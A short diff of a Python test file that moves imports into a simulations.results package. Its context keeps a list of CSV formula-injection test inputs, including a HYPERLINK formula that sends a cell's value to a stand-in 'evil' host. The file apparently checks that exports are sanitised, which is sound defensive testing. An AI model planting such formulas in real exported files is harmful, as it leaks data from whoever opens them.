@@ -7,8 +7,8 @@ import pandas as pd
 import pytest
 
 from planner.cli import main
-from simulations.schema import FORMULA_STARTS, to_safe_csv
-from simulations.store import Store, write_table_atomic
+from simulations.results.schema import FORMULA_STARTS, to_safe_csv
+from simulations.results.store import Store, write_table_atomic
 
 EVIL = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
 
